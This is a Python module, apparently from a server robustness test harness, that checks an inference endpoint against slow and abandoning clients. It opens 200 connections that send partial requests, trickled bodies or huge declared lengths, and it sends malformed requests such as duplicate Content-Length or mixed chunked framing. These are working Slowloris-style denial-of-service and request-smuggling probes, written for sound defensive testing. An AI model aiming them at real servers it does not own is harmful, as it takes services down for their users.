"""Somebody sends slowly, or goes away in the middle.

A server that gives each connection a thread, or waits for a body with something else in its hands, is held up
by a few hundred clients that send a byte now and then. One that goes on sampling for a client that has left
is kept busy for nothing. So connections that say nothing hold up nobody, and their end ends their work.
"""

from __future__ import annotations

import json
import socket
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from urllib.parse import urlsplit

from target import GENERATE, Target, main
from verdict import Answer, Outcome

CONNECTIONS = 200

HEAD = f"POST {GENERATE} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
NONE = Answer(0, "nobody waits for one")


def attack(target: Target) -> Iterator[Outcome]:
    body = json.dumps(target.good()).encode()
    long = json.dumps(target.request([target.picture(0)], max_tokens=500, temperature=1)).encode()
    whole = f"{HEAD}Content-Length: {len(body)}\r\n\r\n".encode() + body
    starts: dict[str, Callable[[int], bytes]] = {
        "nothing at all": lambda _: b"",
        "half a request line": lambda _: b"POST /infer",
        "headers without an end": lambda _: HEAD.encode(),
        "a body, a byte now and then": lambda n: whole[: -len(body) + n % len(body)],
        "a body less its last byte": lambda _: whole[:-1],
        "a chunk that does not come": lambda _: f"{HEAD}Transfer-Encoding: chunked\r\n\r\nffffff\r\n".encode(),
        "a length of a terabyte": lambda _: f"{HEAD}Content-Length: {1 << 40}\r\n\r\n{{".encode(),
    }
    for name, start in starts.items():
        with ExitStack() as held:
            for number in range(CONNECTIONS):
                held.enter_context(_connected(target)).sendall(start(number))
            yield Outcome(f"{CONNECTIONS} connections with {name}", name, NONE, target.harm())
        yield Outcome(f"{CONNECTIONS} connections with {name}, dropped", name, NONE, target.harm())
    asked = f"{HEAD}Content-Length: {len(long)}\r\n\r\n".encode() + long
    for _ in range(CONNECTIONS // 4):
        with _connected(target) as leaving:
            leaving.sendall(asked)
    yield Outcome(f"{CONNECTIONS // 4} clients that leave before 500 tokens", "max_tokens = 500", NONE, target.harm())
    for name, sent in {
        "two lengths": f"{HEAD}Content-Length: 5\r\nContent-Length: 6\r\n\r\n{{}}   ",
        "a length and chunks": f"{HEAD}Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        "a negative length": f"{HEAD}Content-Length: -1\r\n\r\n{{}}",
        "a header of 1 MiB": f"POST {GENERATE} HTTP/1.1\r\nHost: x\r\nX: {'x' * (1 << 20)}\r\n\r\n",
        "another protocol": "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
    }.items():
        yield Outcome(name, sent[:80], _answered(target, sent), target.harm())


def _connected(target: Target) -> socket.socket:
    place = urlsplit(target.url)
    return socket.create_connection((place.hostname or "127.0.0.1", place.port or 80), timeout=30)


def _answered(target: Target, sent: str) -> Answer:
    with _connected(target) as connection:
        try:
            connection.sendall(sent.encode("latin-1"))
            connection.shutdown(socket.SHUT_WR)
            text = connection.recv(4096).decode(errors="replace")
        except OSError as error:
            return Answer(0, type(error).__name__)
    status = text.split(" ")[1] if text.startswith("HTTP/") else "0"
    return Answer(int(status), text)


if __name__ == "__main__":
    main(attack)
